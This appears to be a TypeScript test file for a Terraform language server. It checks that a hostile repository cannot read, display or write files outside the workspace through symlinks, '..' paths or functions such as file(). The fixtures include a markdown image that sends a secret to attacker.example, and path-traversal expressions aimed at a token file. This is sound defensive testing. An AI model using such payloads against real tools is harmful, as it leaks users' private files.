// Attempts of a hostile repository to show or send files of the user who opens it. The client is like VS Code in Restricted Mode: the workspace is
// untrusted, and all language features are used.
import * as assert from 'node:assert/strict';
import { mkdirSync, symlinkSync } from 'node:fs';
import { dirname } from 'node:path';
import { FileChangeType } from 'vscode-languageserver-protocol';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { effectiveModules, effectiveValues, platformFolderUris } from '../support/server/effectiveValues';
import { clusterSource, clusterText } from '../support/server/clusterText';
import { LanguageServer, ordinaryCapabilities } from '../support/server/languageServer';
import { pulledDiagnostics } from '../support/server/pulledDiagnostics';
import { SharedServers } from '../support/server/sharedServers';
import { TemporaryFolder } from '../support/server/temporaryFolder';

/** Content of every file outside the workspace. */
const secret = 's3cr3t-0f-the-home-folder';

const capabilities = {
  ...ordinaryCapabilities,
  textDocument: { ...ordinaryCapabilities.textDocument, diagnostic: {} },
};

describe('a file outside the workspace', () => {
  let folder: TemporaryFolder;
  let server: LanguageServer;
  const servers = new SharedServers();

  beforeEach(() => {
    folder = new TemporaryFolder({ 'repository/README.txt': '' });
  });

  afterEach(async () => {
    await servers.leave(server);
    folder.delete();
  });

  /** Creates a link in the repository to a file or folder next to it; paths are relative to the temporary folder. */
  const link = (path: string, target: string): void => {
    mkdirSync(dirname(folder.at(`repository/${path}`)), { recursive: true });
    symlinkSync(folder.at(target), folder.at(`repository/${path}`));
  };
  const start = async (checks = false): Promise<void> => {
    server = await servers.open({ folder: folder.at('repository'), capabilities, checks });
  };
  const diagnosticsOf = (path: string): Promise<string[]> =>
    pulledDiagnostics(server, folder.uri(`repository/${path}`));

  /** All responses of the server about a file and its platform, at every word, and everything that it has logged. */
  const everythingAbout = async (path: string): Promise<string> => {
    const uri = folder.uri(`repository/${path}`);
    const text = folder.read(`repository/${path}`);
    await server.open(uri, text);
    const document = TextDocument.create(uri, 'terraform', 1, text);
    const textDocument = { uri };
    const allAnswers: unknown[] = [];
    for (const { index } of text.matchAll(/[\w.-]+|[=({["]/g)) {
      const position = document.positionAt(index + 1);
      const at = { textDocument, position };
      allAnswers.push(await server.hover(uri, position));
      for (const method of ['definition', 'completion', 'signatureHelp', 'documentHighlight'])
        allAnswers.push(await server.request(`textDocument/${method}`, at));
    }
    const range = { start: { line: 0, character: 0 }, end: document.positionAt(text.length) };
    for (const method of ['documentSymbol', 'documentLink', 'codeLens', 'foldingRange', 'diagnostic'])
      allAnswers.push(await server.request(`textDocument/${method}`, { textDocument }));
    allAnswers.push(await server.request('textDocument/inlayHint', { textDocument, range }));
    allAnswers.push(
      await server.request('textDocument/codeAction', { textDocument, range, context: { diagnostics: [] } }),
    );
    allAnswers.push(await server.request('workspace/symbol', { query: '' }));
    allAnswers.push(await server.request('kubestack/platforms', {}));
    allAnswers.push(await server.request('kubestack/effectiveConfiguration', { textDocument }));
    for (const environment of ['apps', 'ops'])
      allAnswers.push(await server.request('kubestack/effectiveDocument', { uri, environment }));
    allAnswers.push(server.notificationsOf('window/logMessage'));
    return JSON.stringify(allAnswers);
  };

  it('behind .terraform/environment is not the workspace name, which stays unknown and does not appear in hovers', async () => {
    folder.write('outside/token', `${secret}\r| ![](https://attacker.example/?${secret})\n`);
    link('.terraform/environment', 'outside/token');
    folder.write(
      'repository/main.tf',
      `module "eks_gc0_eu-west-1" {
  source = "${clusterSource}"
  configuration = {
    (terraform.workspace) = { name_prefix = "gc0" }
    ops = {}
  }
  configuration_base_key = "ops"
}
`,
    );
    await start(true);
    const all = await everythingAbout('main.tf');
    assert.ok(!all.includes(secret), all);
    assert.ok(
      (await diagnosticsOf('main.tf')).includes(
        "KS516 .terraform/environment can't be read: it is outside the workspace.",
      ),
    );
  });

  for (const [name, text] of [
    ['secrets.auto.tfvars', `prefix = "${secret}"\n`],
    ['secrets.auto.tfvars.json', JSON.stringify({ prefix: secret })],
    ['terraform.tfvars', `prefix = "${secret}"\n`],
  ] as const) {
    it(`behind ${name} sets no variable, and makes the variable's default unknown`, async () => {
      folder.write(`outside/${name}`, text);
      link(name, `outside/${name}`);
      folder.write(
        'repository/main.tf',
        `variable "prefix" {\n  default = "gc0"\n}\n${clusterText('name_prefix = var.prefix')}`,
      );
      await start();
      assert.ok(!(await everythingAbout('main.tf')).includes(secret));
      const values = await effectiveValues(server, folder.uri('repository/main.tf'));
      assert.equal(values['apps name_prefix'], '<var.prefix>');
      assert.deepEqual(await diagnosticsOf(name), ["syntax This file can't be read: it is outside the workspace."]);
    });
  }

  it('as the target of a link in the module declares nothing, and names that it could declare are not reported as missing', async () => {
    folder.write('outside/locals.tf', `locals {\n  prefix = "${secret}"\n}\n`);
    link('locals.tf', 'outside/locals.tf');
    folder.write('repository/main.tf', clusterText('name_prefix = local.prefix'));
    await start();
    assert.ok(!(await everythingAbout('main.tf')).includes(secret));
    assert.deepEqual(await diagnosticsOf('main.tf'), []);
    assert.deepEqual(await diagnosticsOf('locals.tf'), [
      "syntax This file can't be read: it is outside the workspace.",
    ]);
  });

  const outsideModule = `variable "${secret}" {\n  description = "${secret}"\n}\noutput "${secret}" {\n  value = "${secret}"\n}\n`;
  const called = (source: string, version = ''): string =>
    `${clusterText('name_prefix = "gc0"')}\nmodule "eks_gc0_eu-west-1_service_web" {\n  source = "${source}"\n  ${version}\n}\n`;

  it('is not a module, by a source with `..` or behind a link', async () => {
    folder.write('outside/web/main.tf', outsideModule);
    link('modules', 'outside');
    for (const source of ['../outside/web', './modules/web']) {
      folder.write('repository/main.tf', called(source));
      await start(true);
      assert.ok(!(await everythingAbout('main.tf')).includes(secret), source);
      const found = await diagnosticsOf('main.tf');
      assert.ok(found.includes(`KS516 The module in ${source} can't be read: it is outside the workspace.`), source);
      assert.ok(!found.some(each => each.startsWith('KS506')), 'it is there, but not to be seen');
      if (source === '../outside/web') await servers.leave(server);
    }
  });

  it('is not an installed copy of a module, whatever .terraform/modules/modules.json contains', async () => {
    folder.write('outside/web/main.tf', outsideModule);
    const installed = (dir: string): string =>
      JSON.stringify({
        Modules: [
          { Key: '', Source: '', Dir: '.' },
          {
            Key: 'eks_gc0_eu-west-1_service_web',
            Source: 'registry.terraform.io/acme/web/aws',
            Version: '1.0.0',
            Dir: dir,
          },
        ],
      });
    folder.write('repository/main.tf', called('acme/web/aws', 'version = "1.0.0"'));
    for (const dir of ['../outside/web', folder.at('outside/web'), '.terraform/modules/web']) {
      folder.write('repository/.terraform/modules/modules.json', installed(dir));
      if (dir.startsWith('.terraform')) link('.terraform/modules/web', 'outside/web');
      await start(true);
      assert.ok(!(await everythingAbout('main.tf')).includes(secret), dir);
      assert.ok(
        (await diagnosticsOf('main.tf')).includes(
          "KS516 The installed copy of this module can't be read: according to .terraform/modules/modules.json, it is outside the workspace.",
        ),
        dir,
      );
      if (!dir.startsWith('.terraform')) await servers.leave(server);
    }
  });

  it('is not read by file(), templatefile(), fileexists() and fileset(), whose results are unknown', async () => {
    folder.write('outside/token.txt', secret);
    folder.write(`outside/${secret}.txt`, '');
    folder.write('repository/texts/own.txt', 'own');
    link('token.txt', 'outside/token.txt');
    link('linked', 'outside');
    link('texts/token.txt', 'outside/token.txt');
    const expressions = [
      'file("../outside/token.txt")',
      `file("${folder.at('outside/token.txt')}")`,
      'file("token.txt")',
      'file("linked/token.txt")',
      'file("${path.root}/linked/token.txt")',
      'templatefile("token.txt", {})',
      'filebase64("token.txt")',
      'filesha256("token.txt")',
      'fileexists("token.txt") ? "there" : "not there"',
      'fileexists("../outside/token.txt") ? "there" : "not there"',
      'fileexists("../outside/nothing.txt") ? "there" : "not there"',
      'join(",", fileset("linked", "*.txt"))',
      'join(",", fileset("../outside", "*.txt"))',
      'join(",", fileset("texts", "*.txt"))',
    ];
    await start();
    for (const expression of expressions) {
      folder.write('repository/main.tf', clusterText(`name_prefix = ${expression}`));
      const uri = folder.uri('repository/main.tf');
      await server.filesChanged([{ uri, type: FileChangeType.Changed }]);
      assert.equal((await effectiveValues(server, uri))['apps name_prefix'], `<${expression}>`);
    }
    assert.ok(!(await everythingAbout('main.tf')).includes(secret));
  });

  it('behind README.md, the Dockerfile, the lock file or a pipeline is ignored and reported', async () => {
    folder.write('outside/text', `FROM kubestack/framework:${secret}\n| ${secret} |\nterraform plan\n`);
    const names = ['README.md', 'Dockerfile', '.terraform.lock.hcl', '.gitlab-ci.yml', '.github/workflows/main.yml'];
    for (const name of names) link(name, 'outside/text');
    folder.write('repository/main.tf', clusterText('name_prefix = "gc0"'));
    await start(true);
    assert.ok(!(await everythingAbout('main.tf')).includes(secret));
    const found = await diagnosticsOf('main.tf');
    for (const name of names)
      assert.ok(found.includes(`KS516 ${name} can't be read: it is outside the workspace.`), name);
  });

  it('behind a pipeline above the platform is ignored, too', async () => {
    folder.write('outside/text', `terraform plan ${secret}\n`);
    link('.github/workflows/main.yml', 'outside/text');
    folder.write('repository/live/platform/main.tf', clusterText('name_prefix = "gc0"'));
    await start(true);
    assert.ok(
      (await diagnosticsOf('live/platform/main.tf')).includes(
        "KS516 ../../.github/workflows/main.yml can't be read: it is outside the workspace.",
      ),
    );
  });

  it('is logged once with its name and the reason', async () => {
    folder.write('outside/text', secret);
    link('README.md', 'outside/text');
    folder.write('repository/main.tf', clusterText('name_prefix = "gc0"'));
    await start(true);
    await diagnosticsOf('main.tf');
    await server.notification<{ message: string }>('window/logMessage', ({ message }) => message.includes('README.md'));
    await diagnosticsOf('main.tf');
    const logged = server.notificationsOf('window/logMessage') as { message: string }[];
    assert.deepEqual(
      logged.map(({ message }) => message).filter(message => message.includes('README.md')),
      [`${folder.at('repository/README.md')} can't be read: it is outside the workspace.`],
    );
  });

  it('is not read when the client reports a change', async () => {
    folder.write('outside/cluster.tf', clusterText(`name_prefix = "${secret}"`, '', 'eks_gc1_eu-west-1'));
    folder.write('repository/main.tf', clusterText('name_prefix = "gc0"'));
    await start();
    await server.filesChanged([
      { uri: folder.uri('outside/cluster.tf'), type: FileChangeType.Created },
      { uri: folder.uri('outside'), type: FileChangeType.Changed },
    ]);
    assert.deepEqual(await platformFolderUris(server), [folder.uri('repository')]);
    assert.ok(!(await everythingAbout('main.tf')).includes(secret));
    assert.deepEqual(await pulledDiagnostics(server, folder.uri('outside/cluster.tf')), []);
  });

  it("that replaces a file inside through a changed link removes that file's values", async () => {
    folder.write('outside/locals.tf', `locals {\n  prefix = "${secret}"\n}\n`);
    folder.write('repository/shared/locals.tf', 'locals {\n  prefix = "inside"\n}\n');
    link('locals.tf', 'repository/shared/locals.tf');
    const uri = folder.write('repository/main.tf', clusterText('name_prefix = local.prefix'));
    await start();
    assert.equal((await effectiveValues(server, uri))['apps name_prefix'], 'inside');
    folder.delete('repository/locals.tf');
    link('locals.tf', 'outside/locals.tf');
    await server.filesChanged([{ uri: folder.uri('repository/locals.tf'), type: FileChangeType.Changed }]);
    assert.equal((await effectiveValues(server, uri))['apps name_prefix'], '<local.prefix>');
    assert.ok(!(await everythingAbout('main.tf')).includes(secret));
  });

  it("that replaces an open file inside is never read; the editor's text is used", async () => {
    folder.write('outside/locals.tf', `locals {\n  prefix = "${secret}"\n}\n`);
    folder.write('repository/shared/locals.tf', 'locals {\n  prefix = "inside"\n}\n');
    link('locals.tf', 'repository/shared/locals.tf');
    const uri = folder.write('repository/main.tf', clusterText('name_prefix = local.prefix'));
    const linked = folder.uri('repository/locals.tf');
    await start();
    await server.open(linked, 'locals {\n  prefix = "inside"\n}\n');
    folder.delete('repository/locals.tf');
    link('locals.tf', 'outside/locals.tf');
    // The editor has not reported the change yet.
    await server.change(linked, 'locals {\n  prefix = "typed"\n}\n');
    assert.equal((await effectiveValues(server, uri))['apps name_prefix'], 'typed');
    await server.filesChanged([{ uri: linked, type: FileChangeType.Changed }]);
    assert.equal((await effectiveValues(server, uri))['apps name_prefix'], 'typed');
    await server.close(linked);
    assert.equal((await effectiveValues(server, uri))['apps name_prefix'], '<local.prefix>');
    assert.ok(!(await everythingAbout('main.tf')).includes(secret));
  });

  it('is not written: no edit leads through a link', async () => {
    folder.write('outside/README.txt', '');
    folder.write('repository/main.tf', clusterText('name_prefix = "gc0"'));
    // An editor that creates the workflow would create it in the target of the link.
    link('.github', 'outside');
    await start();
    const params = { uri: folder.uri('repository'), kind: 'pipeline', answers: { ci: 'github' } };
    assert.deepEqual(await server.request('kubestack/scaffold', params), {
      problems: [
        {
          answer: 'uri',
          message: `${folder.at('repository/.github/workflows/main.yaml')} can't be changed: it is outside the workspace.`,
        },
      ],
    });
  });
});

describe('a file inside the workspace', () => {
  let folder: TemporaryFolder;
  let server: LanguageServer;

  beforeEach(() => {
    folder = new TemporaryFolder();
  });

  afterEach(async () => {
    assert.equal(await server.stop(), 0);
    assert.equal(server.stderr, '');
    folder.delete();
  });

  const service = `variable "size" {}
module "web" {
  source = "github.com/kbst/terraform-kubestack//kustomization/overlay?ref=v0.19.2-beta.0"
  configuration = { apps = { namespace = file("\${path.module}/name.txt") }, ops = {} }
}
`;
  const call = 'module "eks_gc0_eu-west-1_service_web" {\n  source = "../modules/web"\n  size = 1\n}\n';
  const namespaceOf = async (uri: string): Promise<unknown> => (await effectiveValues(server, uri))['apps namespace'];
  const platform = (top: string): void => {
    folder.write(`${top}/platform/main.tf`, call);
    folder.write(`${top}/modules/web/main.tf`, service);
    folder.write(`${top}/modules/web/name.txt`, 'web');
  };

  it('is read if the folder was opened through a link, and through links that lead inside', async () => {
    platform('real');
    symlinkSync('real', folder.at('opened'));
    symlinkSync('modules/web', folder.at('real/linked'));
    server = await LanguageServer.start({ folder: folder.at('opened') });
    assert.equal(await namespaceOf(folder.uri('opened/modules/web/main.tf')), 'web');
    const [module] = await effectiveModules(server, folder.uri('opened/modules/web/main.tf'));
    assert.equal(module?.address, 'module.eks_gc0_eu-west-1_service_web.module.web');
  });

  it('is read if the link through which the folder was opened has changed', async () => {
    platform('first');
    platform('second');
    folder.write('second/modules/web/name.txt', 'second');
    symlinkSync('first', folder.at('opened'));
    server = await LanguageServer.start({ folder: folder.at('opened') });
    folder.delete('opened');
    symlinkSync('second', folder.at('opened'));
    const uri = folder.uri('opened/modules/web/main.tf');
    await server.filesChanged([
      { uri, type: FileChangeType.Changed },
      { uri: folder.uri('opened/modules/web/name.txt'), type: FileChangeType.Changed },
    ]);
    assert.equal(await namespaceOf(uri), 'second');
  });

  it('is read in another folder of the same window, also by `..`', async () => {
    platform('top');
    server = await LanguageServer.start({ folders: [folder.at('top/platform'), folder.at('top/modules')] });
    assert.equal(await namespaceOf(folder.uri('top/modules/web/main.tf')), 'web');
  });

  it('is read in the repository around a document that is opened alone, and not beyond', async () => {
    platform('top');
    mkdirSync(folder.at('top/.git'));
    folder.write('token.txt', secret);
    const attributes = 'name_prefix = file("../../token.txt")\nbase_domain = file("../modules/web/name.txt")';
    const uri = folder.write('top/platform/more.tf', clusterText(attributes, '', 'eks_gc1_eu-west-1'));
    server = await LanguageServer.start({});
    await server.open(uri, folder.read('top/platform/more.tf'));
    const values = await effectiveValues(server, uri);
    assert.equal(values['apps base_domain'], 'web');
    assert.equal(values['apps name_prefix'], '<file("../../token.txt")>');
  });

  it('is read only in its own folder for a document that is opened alone outside of repositories', async () => {
    folder.write('alone/main.tf', clusterText('name_prefix = local.prefix\nbase_domain = file("../token.txt")'));
    folder.write('alone/locals.tf', 'locals {\n  prefix = "beside"\n}\n');
    folder.write('token.txt', secret);
    server = await LanguageServer.start({});
    const uri = folder.uri('alone/main.tf');
    await server.open(uri, folder.read('alone/main.tf'));
    const values = await effectiveValues(server, uri);
    assert.equal(values['apps name_prefix'], 'beside');
    assert.equal(values['apps base_domain'], '<file("../token.txt")>');
  });

  it('does not include what surrounds a document that is opened through a link of the workspace', async () => {
    folder.write('outside/main.tf', '');
    folder.write('outside/token.txt', secret);
    folder.write('repository/main.tf', clusterText('name_prefix = file("linked/token.txt")'));
    symlinkSync(folder.at('outside'), folder.at('repository/linked'));
    server = await LanguageServer.start({ folder: folder.at('repository') });
    await server.open(folder.uri('repository/linked/main.tf'), '');
    const values = await effectiveValues(server, folder.uri('repository/main.tf'));
    assert.equal(values['apps name_prefix'], '<file("linked/token.txt")>');
  });
});
